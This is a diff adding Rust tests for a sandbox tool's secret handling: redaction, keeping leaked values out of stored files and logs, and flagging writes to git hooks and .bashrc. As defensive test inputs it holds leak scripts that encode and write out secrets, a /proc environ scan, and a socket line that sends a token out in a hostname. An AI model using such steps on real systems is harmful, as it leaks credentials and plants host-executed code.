@@ -1,0 +1,515 @@
+//! Secrets: how a command gets them, that nothing else does, and what its changes would execute on the host.
+
+use std::path::Path;
+use std::process::Command;
+
+use serde_json::{Value, json};
+
+use crate::env::{Answer, Running, TestEnv};
+use crate::shared::Shared;
+
+const VALUE: &str = "hunter2-correct+horse/battery";
+const KEY: &str = "-----BEGIN-----\nline one of it\nline two of it\n-----END-----\n";
+/// Waits inside for the test to have done something outside.
+const MEET: &str = ": > $S/ready; while [ ! -e $S/go ]; do sleep 0.02; done";
+
+/// With a variable TOKEN and a file of the host.
+fn with_secrets() -> TestEnv {
+    let env = TestEnv::with_project();
+    std::fs::write(env.at("key.pem"), KEY).unwrap();
+    env
+}
+
+fn command(env: &TestEnv, options: &[&str], line: &str) -> Command {
+    let mut words = options.to_vec();
+    words.extend(["--shell", line]);
+    let mut command = env.command(&words);
+    command.env("TOKEN", VALUE);
+    command
+}
+
+#[track_caller]
+fn run(env: &TestEnv, options: &[&str], line: &str) -> Answer {
+    env.answer(&mut command(env, options, line))
+}
+
+fn key(env: &TestEnv) -> String {
+    format!("KEY={}", env.at("key.pem").display())
+}
+
+/// The values, and what people and programs write for them.
+fn forms() -> Vec<Vec<u8>> {
+    let encode = |script: &str, value: &str| {
+        let program =
+            format!("import sys,base64,urllib.parse as u,json\nv=sys.argv[1].strip().encode()\n{script}");
+        let output = Command::new("python3").args(["-c", &program, value]).output().unwrap();
+        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+        output.stdout
+    };
+    let mut forms = Vec::new();
+    for value in [VALUE, KEY] {
+        forms.push(value.trim().as_bytes().to_vec());
+        for script in [
+            "sys.stdout.buffer.write(base64.b64encode(v).rstrip(b'='))",
+            "sys.stdout.buffer.write(base64.urlsafe_b64encode(v).rstrip(b'='))",
+            "sys.stdout.write(v.hex())",
+            "sys.stdout.write(v.hex().upper())",
+            "sys.stdout.write(u.quote(v, safe=''))",
+            "sys.stdout.write(u.quote(v))",
+            "sys.stdout.write(json.dumps(v.decode())[1:-1])",
+        ] {
+            forms.push(encode(script, value));
+        }
+    }
+    forms
+}
+
+#[track_caller]
+fn assert_not_in(forms: &[Vec<u8>], bytes: &[u8], what: &str) {
+    for form in forms {
+        let found = bytes.windows(form.len()).any(|window| window == form.as_slice());
+        assert!(!found, "{what} holds {:?}", String::from_utf8_lossy(form));
+    }
+}
+
+/// Fails if a value is in a file, its name or the target of a link, anywhere beneath a directory.
+#[track_caller]
+fn assert_not_beneath(forms: &[Vec<u8>], dir: &Path) {
+    for entry in std::fs::read_dir(dir).unwrap() {
+        let path = entry.unwrap().path();
+        assert_not_in(forms, path.as_os_str().as_encoded_bytes(), "a name");
+        let kind = path.symlink_metadata().unwrap().file_type();
+        if kind.is_dir() {
+            assert_not_beneath(forms, &path);
+        } else if kind.is_file() {
+            assert_not_in(forms, &std::fs::read(&path).unwrap(), &path.display().to_string());
+        } else if kind.is_symlink() {
+            let target = std::fs::read_link(&path).unwrap();
+            assert_not_in(forms, target.as_os_str().as_encoded_bytes(), &path.display().to_string());
+        }
+    }
+}
+
+fn left_out(envelope: &Value) -> Vec<(String, String)> {
+    let text = |value: &Value| value.as_str().unwrap().to_owned();
+    let list = envelope["result"]["left_out"].as_array().unwrap();
+    list.iter().map(|left| (text(&left["path"]), text(&left["reason"]))).collect()
+}
+
+#[test]
+fn a_secret_is_a_file_that_nobody_can_change() {
+    let env = with_secrets();
+    let key = key(&env);
+    let line = "cat $TOKEN_FILE; echo; cat $KEY_FILE; echo $TOKEN_FILE $KEY_FILE ${TOKEN-unset}; \
+                stat -c '%a %n' /run/secrets /run/secrets/*; stat -c %u /run/secrets/TOKEN | grep -qx $(id -u) && echo mine; \
+                for what in 'echo x > /run/secrets/TOKEN' ': > /run/secrets/new' 'rm -f /run/secrets/KEY' \
+                    'chmod 777 /run/secrets' 'mv /run/secrets/KEY /run/secrets/K'; do (eval $what) 2>/dev/null && echo done: $what; done; \
+                grep -c ' /run/secrets ro[, ].* tmpfs ' /proc/self/mountinfo";
+    let told = format!(
+        "{VALUE}\n{KEY}/run/secrets/TOKEN /run/secrets/KEY unset\n500 /run/secrets\n400 /run/secrets/KEY\n\
+         400 /run/secrets/TOKEN\nmine\n1\n"
+    );
+    for options in [
+        &["--scratch", "memory"][..],
+        &["--scratch", "disk"],
+        &["--backend", "copy"],
+        &["--profile", "host"],
+        &["--fork", "f"],
+        &["--readonly"],
+        &["--ro", "/run/"],
+    ] {
+        if options.contains(&"--ro") && Path::new("/run/secrets").exists() {
+            continue;
+        }
+        let options = [options, &["--quiet", "--secret", "TOKEN=file", "--secret", &key]].concat();
+        let answer = run(&env, &options, line);
+        if options.contains(&"--ro") {
+            // There is no place for them in what the host has and nobody may change.
+            let answer = answer.expect(121);
+            assert!(answer.stderr.contains("cannot put the secrets into /run/secrets"), "{answer:?}");
+            continue;
+        }
+        assert_eq!(answer.expect(0).text(), told, "{options:?}");
+    }
+    // Nothing is there for who has none, and what is missing is told.
+    let none = env.shell(&["--secret", "NONE=file"], "ls /run/secrets; echo ${NONE_FILE-unset}").expect(0);
+    assert_eq!(none.text(), "unset\n");
+    assert!(none.stderr.contains("NONE is not set"), "{none:?}");
+}
+
+#[test]
+fn no_other_process_has_the_value() {
+    let env = with_secrets();
+    let line = "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -cFf $TOKEN_FILE; \
+                cat /proc/1/environ 2>&1 | grep -c denied";
+    assert_eq!(run(&env, &["--quiet", "--secret", "TOKEN=file"], line).text(), "0\n1\n");
+    // The control: as a variable the command itself has it.
+    let control = "tr '\\0' '\\n' < /proc/$$/environ | grep -c ^TOKEN=";
+    assert_eq!(run(&env, &["--quiet", "--secret", "TOKEN"], control).text(), "1\n");
+}
+
+#[test]
+fn a_file_may_be_a_pipe_and_is_asked_for_in_json_too() {
+    let env = with_secrets();
+    let words = ["-q", "--secret", "PIPED=/dev/stdin", "--shell", "cat $PIPED_FILE"];
+    assert_eq!(env.fed(&words, b"from a pipe").expect(0).text(), "from a pipe");
+    let request = json!({"command": "cat $TOKEN_FILE $KEY_FILE", "secret_files": ["TOKEN", key(&env)]});
+    std::fs::write(env.at("request.json"), request.to_string()).unwrap();
+    let file = env.at("request.json");
+    let words = ["-q", "--request", file.to_str().unwrap()];
+    let answer = env.answer(env.command(&words).env("TOKEN", VALUE)).expect(0);
+    assert_eq!(answer.text(), format!("{VALUE}{KEY}"));
+}
+
+#[test]
+fn what_is_no_secret_is_refused_without_telling_it() {
+    let env = with_secrets();
+    let large = env.at("large");
+    std::fs::write(&large, vec![b'x'; (1 << 20) + 1]).unwrap();
+    let large = format!("KEY={}", large.display());
+    for (word, code) in [
+        ("TO-KEN", "secret.bad_name"),
+        ("=file", "secret.bad_name"),
+        ("../x=file", "secret.bad_name"),
+        ("TOKEN=hunter2-correct+horse", "secret.unreadable"),
+        (&large, "secret.too_long"),
+    ] {
+        let answer = run(&env, &["--json", "--secret", word], "true").expect(125);
+        assert_eq!(answer.envelope()["error"]["code"], json!(code), "{word}");
+        let human = run(&env, &["--secret", word], "true").expect(125);
+        assert!(!human.stderr.contains("hunter2") && human.stderr.contains("hint: "), "{human:?}");
+    }
+    assert!(env.avfs_result(&["runs", "list"])["runs"].as_array().unwrap().is_empty());
+}
+
+#[test]
+fn a_file_of_the_host_is_handed_over_by_its_path() {
+    let env = with_secrets();
+    env.policy("[caps]\nsecrets = ['KEY', 'TOKEN']\n");
+    let key = key(&env);
+    let denied = run(&env, &["--json", "--secret", &key], "true").expect(122).envelope();
+    assert_eq!(denied["decision"]["rule"], json!("caps.secrets"), "{denied}");
+    run(&env, &["--secret", "TOKEN=file"], "true").expect(0);
+    env.policy(&format!("[caps]\nsecrets = ['KEY', '{}/*']\n", env.at("home").parent().unwrap().display()));
+    run(&env, &["--secret", &key], "true").expect(0);
+    let denied = run(&env, &["--json", "--secret", "TOKEN=file"], "true").expect(122).envelope();
+    assert_eq!(denied["decision"]["rule"], json!("caps.secrets"));
+    env.policy("profile = 'agent'\n");
+    let asked = run(&env, &["--json", "--secret", "TOKEN=file"], "true").expect(120).envelope();
+    assert_eq!(asked["decision"]["rule"], json!("profile.agent.secrets"));
+}
+
+/// Prints and writes the values in every way that is looked for.
+const LEAK: &str = r#"
+    python3 - <<'END'
+import base64, json, os, urllib.parse
+values = [os.environ['TOKEN'], open(os.environ['KEY_FILE']).read().strip()]
+for number, value in enumerate(values):
+    raw = value.encode()
+    ways = [value, base64.b64encode(raw).decode(), base64.urlsafe_b64encode(raw).decode(),
+            base64.b64encode(b'u:' + raw + b'@').decode(), raw.hex(), raw.hex().upper(),
+            urllib.parse.quote(value, safe=''), urllib.parse.quote(value), json.dumps(value)]
+    for way, text in enumerate(ways):
+        print('out', text)
+        os.makedirs('leaks', exist_ok=True)
+        open(f'leaks/{number}-{way}', 'w').write('before ' + text + ' after')
+open('leaks/name-' + urllib.parse.quote(values[0], safe=''), 'w').write('x')
+os.symlink('/nowhere/' + values[0], 'leaks/link')
+open('README.md', 'a').write(values[0])
+open('kept', 'w').write('kept')
+END
+    echo "$TOKEN" >&2; cat $KEY_FILE >&2; printf '%s' "$TOKEN" | base64 >&2"#;
+
+#[test]
+fn a_value_is_kept_nowhere() {
+    let forms = forms();
+    for options in [
+        &["--scratch", "memory"][..],
+        &["--scratch", "disk"],
+        &["--backend", "copy"],
+        &["--fork", "f", "--scratch", "memory"],
+        &["--fork", "f", "--scratch", "disk"],
+    ] {
+        let env = with_secrets();
+        let key = key(&env);
+        let options = [options, &["--json", "--secret", "TOKEN", "--secret", &key]].concat();
+        let answer = run(&env, &options, LEAK).expect(0);
+        assert_not_in(&forms, &answer.stdout, "the envelope");
+        assert_not_in(&forms, answer.stderr.as_bytes(), "stderr");
+        let envelope = answer.envelope();
+        let run_ref = format!("run:{}", envelope["run_id"].as_str().unwrap());
+        let left = left_out(&envelope);
+        assert_eq!(left.len(), 9 + 9 + 3, "{options:?}: {left:#?}");
+        assert!(left.iter().any(|(path, _)| path == "leaks/name-[secret]"), "{left:#?}");
+        let told = |path: &str, name: &str| {
+            left.contains(&(path.to_owned(), format!("holds the value of the secret {name}")))
+        };
+        assert!(told("leaks/0-0", "TOKEN") && told("leaks/1-0", "KEY") && told("README.md", "TOKEN"));
+        // What it made besides is kept, and what was there is as it was.
+        assert_eq!(env.cat(&run_ref, "kept"), "kept");
+        assert_eq!(env.cat(&run_ref, "README.md"), "hello\n");
+        let seen =
+            env.ok(&["--quiet", "--fork", "next", "--from", &run_ref], "cat README.md; find leaks kept");
+        assert_eq!(seen, "hello\nleaks\nkept\n");
+        if options.contains(&"--fork") {
+            assert_eq!(
+                env.ok(&["--quiet", "--fork", "f"], "cat README.md; find leaks kept"),
+                "hello\nleaks\nkept\n"
+            );
+        }
+        for words in [
+            &["runs", "show", &run_ref[4..]][..],
+            &["runs", "list"],
+            &["audit", "export"],
+            &["log", if options.contains(&"--fork") { "f" } else { &run_ref }],
+            &["diff", "main", &run_ref, "--patch"],
+        ] {
+            let answer = env.avfs(words).expect(0);
+            assert_not_in(&forms, &answer.stdout, &words.join(" "));
+        }
+        assert_not_beneath(&forms, &env.export(&run_ref, "exported"));
+        assert_not_beneath(&forms, &env.project());
+        assert_not_beneath(&forms, &env.at("cache"));
+        env.assert_sound();
+    }
+    // The control: all of this finds it where files may hold it.
+    let env = with_secrets();
+    let key = key(&env);
+    let options = ["--json", "--allow-secret-files", "--fork", "f", "--secret", "TOKEN", "--secret", &key];
+    let envelope = run(&env, &options, LEAK).expect(0).envelope();
+    assert_eq!(left_out(&envelope), []);
+    assert_eq!(envelope["request"]["allow_secret_files"], json!(true));
+    let exported = env.export("f", "exported");
+    for form in &forms {
+        let found = std::fs::read_dir(exported.join("leaks")).unwrap().any(|entry| {
+            let path = entry.unwrap().path();
+            let bytes = std::fs::read(&path).unwrap_or_default();
+            bytes.windows(form.len()).any(|window| window == form.as_slice())
+        });
+        assert!(found, "{:?} is in no file", String::from_utf8_lossy(form));
+    }
+}
+
+#[test]
+fn what_is_left_out_is_told_and_not_applied() {
+    let env = with_secrets();
+    let before = std::fs::read(env.project().join("README.md")).unwrap();
+    let words = [
+        "--apply",
+        "--secret",
+        "TOKEN",
+        "--shell",
+        "echo $TOKEN > leaked; echo $TOKEN >> README.md; echo x > x",
+    ];
+    let mut command = env.command(&words);
+    let answer = crate::env::Running::start(command.env("TOKEN", VALUE)).answer().expect(0);
+    for path in ["leaked", "README.md"] {
+        let line = format!("not kept: {path}: holds the value of the secret TOKEN");
+        assert!(answer.stderr.contains(&line), "{answer:?}");
+    }
+    assert!(env.project().join("x").exists() && !env.project().join("leaked").exists());
+    assert_eq!(std::fs::read(env.project().join("README.md")).unwrap(), before);
+    // A value that is too short would be everywhere: that is said.
+    let short = env
+        .command(&["--secret", "TOKEN", "--shell", "echo $TOKEN > s"])
+        .env("TOKEN", "abc")
+        .output()
+        .unwrap();
+    let told = String::from_utf8_lossy(&short.stderr).into_owned();
+    assert!(told.contains("TOKEN is too short to be looked for in files"), "{told}");
+}
+
+#[test]
+fn a_recovery_wants_to_know_the_values() {
+    for options in [&["--scratch", "memory"][..], &["--scratch", "disk"], &["--backend", "copy"]] {
+        let env = with_secrets();
+        let shared = Shared::new(&env);
+        let key = key(&env);
+        let options = [options, &["--json", "--secret", "TOKEN", "--secret", &key]].concat();
+        let line = format!("{MEET}; echo $TOKEN > leaked; cp $KEY_FILE key; chmod 600 key; echo kept > kept");
+        let fail = || {
+            let running =
+                crate::env::Running::start(shared.command(&env, &options, &line).env("TOKEN", VALUE));
+            let running = shared.wait_for_word(running, "ready");
+            let (there, away) = (env.project().join(".avfs"), env.at("away"));
+            std::fs::rename(&there, &away).unwrap();
+            shared.put("go");
+            let envelope = running.answer().expect(123).envelope();
+            let _ = std::fs::remove_dir_all(&there);
+            std::fs::rename(&away, &there).unwrap();
+            for name in ["ready", "go"] {
+                std::fs::remove_file(env.at("shared").join(name)).unwrap();
+            }
+            envelope["run_id"].as_str().unwrap().to_owned()
+        };
+        let id = fail();
+        let refused = env.avfs(&["recover", &id]);
+        assert!(refused.code != Some(0), "{refused:?}");
+        assert!(refused.stderr.contains("not known here: TOKEN, KEY"), "{refused:?}");
+        for way in
+            [format!("TOKEN=… KEY=… avfs recover {id}"), format!("avfs recover --allow-secret-files {id}")]
+        {
+            assert!(refused.stderr.contains(&way), "{refused:?}");
+        }
+        // Half of them is not enough, and the next run does not finish it by itself.
+        let recover = |words: &[&str], token: &str, key: &str| {
+            let mut command = env.clean(&crate::env::avfs());
+            command.args(words).env("TOKEN", token).env("KEY", key);
+            crate::env::Running::start(&mut command).answer()
+        };
+        assert!(recover(&["recover", &id], VALUE, "").stderr.contains("not known here: KEY"));
+        env.ok(&["-q"], "true");
+        assert_eq!(env.scratches(), std::slice::from_ref(&id));
+        let run_ref = format!("run:{id}");
+        recover(&["recover", &id], VALUE, KEY).expect(0);
+        assert_eq!(env.cat(&run_ref, "kept"), "kept\n");
+        for path in ["leaked", "key"] {
+            env.avfs(&["cat", &run_ref, path]).expect(1);
+        }
+        let forms = forms();
+        assert_not_beneath(&forms, &env.project());
+        assert_not_beneath(&forms, &env.at("cache"));
+        // Or all of it is kept, by somebody's word.
+        let id = fail();
+        env.avfs(&["recover", "--allow-secret-files", &id]).expect(0);
+        assert_eq!(env.cat(&format!("run:{id}"), "leaked").trim(), VALUE);
+        env.assert_sound();
+    }
+}
+
+#[test]
+fn credentials_in_a_command_are_not_written_down() {
+    let env = with_secrets();
+    std::fs::remove_file(env.at("config/avfs/policy.toml")).unwrap();
+    // Taken apart, so that nobody who searches sources for tokens finds one.
+    let token = format!("ghp{}{}", "_", "a1B2".repeat(9));
+    let line = format!("echo {token} | tr a-z A-Z; echo x > x; : https://u:hunter2@example.org/");
+    let ran = env.json(&["--fork", "f"], &line);
+    // What runs is what was asked for.
+    assert_eq!(ran["result"]["stdout"], json!(format!("{}\n", token.to_uppercase())));
+    let id = ran["run_id"].as_str().unwrap().to_owned();
+    let shown = env.avfs_result(&["runs", "show", &id]);
+    let stored = "echo [redacted] | tr a-z A-Z; echo x > x; : https://u:[redacted]@example.org/";
+    assert_eq!(shown["request"]["command"], json!(stored));
+    env.shell(&["--json", "--", &token], "true");
+    env.run(&["--json", "--", &token, "--header", "Authorization: Bearer hunter2"]);
+    // One that waits for an approval is shown without it, and approved for what it is.
+    let curl = format!("curl --max-time 1 -u x:{token} http://127.0.0.1:9/; echo did");
+    let asked = env.shell(&["--json"], &curl).expect(120).envelope();
+    let approval = asked["decision"]["approval_id"].as_str().unwrap().to_owned();
+    let seen = env.avfs(&["approvals", "show", &approval]).expect(0).text();
+    assert!(seen.contains("curl --max-time 1 -u x:[redacted] http"), "{seen}");
+    env.avfs(&["approvals", "approve", &approval]).expect(0);
+    let other = curl.replace("a1B2", "a1B3");
+    env.shell(&["--json"], &other).expect(120);
+    assert_eq!(env.json(&[], &curl)["result"]["stdout"], json!("did\n"));
+    for words in [&["runs", "list"][..], &["audit", "export"], &["log", "f"], &["approvals", "list", "--all"]]
+    {
+        let all = [&["--json"][..], words].concat();
+        let answer = env.avfs(if words[0] == "audit" { words } else { &all });
+        assert!(answer.code == Some(0) && !answer.text().contains("hunter2"), "{words:?}: {answer:?}");
+        assert!(!answer.text().contains(&token), "{words:?}: {answer:?}");
+    }
+    let forms = [token.into_bytes(), b"hunter2".to_vec()];
+    assert_not_beneath(&forms, &env.project());
+    assert_not_beneath(&forms, &env.at("cache"));
+    env.assert_sound();
+}
+
+#[test]
+fn a_value_in_a_command_is_not_written_down() {
+    let env = with_secrets();
+    let line = format!("echo '{VALUE}' > /dev/null; echo x > x");
+    let answer = run(&env, &["--json", "--fork", "f", "--secret", "TOKEN"], &line).expect(0);
+    assert!(!answer.text().contains(VALUE), "{answer:?}");
+    let planned = run(&env, &["--dry-run", "--secret", "TOKEN"], &line).expect(0);
+    assert!(planned.stderr.contains("[secret]") && !planned.stderr.contains(VALUE), "{planned:?}");
+    let lost = run(&env, &["--secret", "TOKEN", "--cwd", "/nowhere"], &line);
+    assert!(lost.code != Some(0) && !lost.stderr.contains(VALUE), "{lost:?}");
+    let traced =
+        env.answer(command(&env, &["--secret", "TOKEN=file"], "true").env("AVFS_LOG", "trace")).expect(0);
+    assert!(!traced.stderr.contains(VALUE), "{traced:?}");
+    assert_not_beneath(&forms(), &env.project());
+    assert_not_beneath(&forms(), &env.at("cache"));
+}
+
+#[test]
+fn what_the_host_would_execute_is_called_out() {
+    let env = TestEnv::with_project();
+    env.put(".git/config", b"[core]\n");
+    let line = "mkdir -p .git/hooks; echo x > .git/hooks/pre-commit; echo y >> .git/config; echo z > .bashrc; echo n > n";
+    let human = env.shell(&[], line).expect(0);
+    for told in [
+        "executed on the host once applied: .git/hooks/pre-commit (a git hook)",
+        "executed on the host once applied: .git/config (git's settings, which can name programs)",
+        "executed on the host once applied: .bashrc (a start-up file of shells)",
+    ] {
+        assert!(human.stderr.contains(told), "{human:?}");
+    }
+    let envelope = env.json(&[], line);
+    let paths = |value: &Value| -> Vec<String> {
+        value.as_array().unwrap().iter().map(|one| one["path"].as_str().unwrap().to_owned()).collect()
+    };
+    let all = [".bashrc", ".git/config", ".git/hooks/pre-commit"];
+    assert_eq!(paths(&envelope["result"]["runs_on_host"]), all);
+    let run = format!("run:{}", envelope["run_id"].as_str().unwrap());
+    let tried = env.avfs_result(&["apply", &run, "--dry-run"]);
+    assert_eq!(paths(&tried["runs_on_host"]), all);
+    let without = env.avfs_result(&["apply", &run, "--dry-run", "--exclude", ".git"]);
+    assert_eq!(paths(&without["runs_on_host"]), [".bashrc"]);
+    let applied = env.avfs(&["apply", &run]).expect(0);
+    assert!(applied.stderr.contains(".git/hooks/pre-commit (a git hook)"), "{applied:?}");
+    // What only takes away, or changes nothing of this kind, is no matter.
+    let quiet = env.shell(&[], "rm -r .git .bashrc; echo m > n").expect(0);
+    assert!(!quiet.stderr.contains("executed on the host"), "{quiet:?}");
+}
+
+#[test]
+fn a_name_that_carries_a_value_out_is_not_written_down() {
+    let env = TestEnv::with_project();
+    let ask = "import os, socket\ns = socket.create_connection(('127.0.0.1', 61080), 20)\n\
+               s.sendall(b'CONNECT %s.example.org:443 HTTP/1.1\\r\\n\\r\\n' % os.environb[b'TOKEN'])\ns.recv(4096)";
+    let asked = |secret: &[&str]| {
+        let words =
+            [&["--json", "--net", "allow=example.com"], secret, &["--", "python3", "-c", ask]].concat();
+        env.answer(env.command(&words).env("TOKEN", "swordfish-in-a-name")).expect(0).envelope()
+    };
+    let host = |envelope: &Value| envelope["result"]["connections"][0]["host"].as_str().unwrap().to_owned();
+    assert_eq!(host(&asked(&["--env", "TOKEN"])), "swordfish-in-a-name.example.org");
+    let envelope = asked(&["--secret", "TOKEN"]);
+    assert_eq!(host(&envelope), "[secret].example.org");
+    assert!(!envelope.to_string().contains("swordfish"), "{envelope}");
+    let shown = env.avfs(&["runs", "show", envelope["run_id"].as_str().unwrap(), "--json"]).expect(0).text();
+    assert!(shown.contains("[secret].example.org") && !shown.contains("swordfish"), "{shown}");
+}
+
+#[test]
+fn an_error_does_not_tell_a_value() {
+    let env = with_secrets();
+    let failing = |options: &[&str]| {
+        let words = [options, &["--secret", "TOKEN", "--", VALUE]].concat();
+        env.answer(env.command(&words).env("TOKEN", VALUE)).expect(127)
+    };
+    let told = failing(&["--json"]);
+    assert_eq!(told.envelope()["error"]["message"], json!("[secret] was not found"), "{told:?}");
+    let human = failing(&[]);
+    assert!(human.stderr.contains("error: [secret] was not found"), "{human:?}");
+    for text in [told.text(), told.stderr, human.stderr] {
+        assert!(!text.contains(VALUE), "{text}");
+    }
+}
+
+#[test]
+fn a_file_that_held_the_value_before_may_be_moved() {
+    let env = with_secrets();
+    env.put("conf.env", format!("TOKEN={VALUE}\n").as_bytes());
+    env.put("dir/a.env", format!("A={VALUE}\n").as_bytes());
+    let line = "mv conf.env prod.env; mv dir moved; echo $TOKEN > new";
+    let mut applied = command(&env, &["--json", "--apply", "--secret", "TOKEN"], line);
+    let envelope = Running::start(&mut applied).answer().expect(0).envelope();
+    assert_eq!(left_out(&envelope).iter().map(|(path, _)| path.as_str()).collect::<Vec<_>>(), ["new"]);
+    let read = |path: &str| std::fs::read_to_string(env.project().join(path)).unwrap_or_default();
+    assert_eq!(read("prod.env"), format!("TOKEN={VALUE}\n"));
+    assert_eq!(read("moved/a.env"), format!("A={VALUE}\n"));
+    assert!(!env.project().join("conf.env").exists() && !env.project().join("new").exists());
+}
